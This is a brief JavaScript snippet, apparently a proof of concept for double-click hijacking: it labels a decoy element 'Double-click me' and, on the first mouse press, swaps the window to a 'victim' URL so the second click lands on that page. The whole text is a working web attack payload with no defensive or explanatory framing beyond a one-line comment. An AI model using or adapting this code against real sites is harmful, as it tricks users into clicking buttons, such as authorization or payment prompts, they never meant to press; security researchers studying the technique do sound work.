// The first press of two lets the victim take this page's place.
"use strict";

document.querySelector("[data-decoy]").textContent = "Double-click me";
window.addEventListener("mousedown", () => { location = document.body.dataset.victim; });
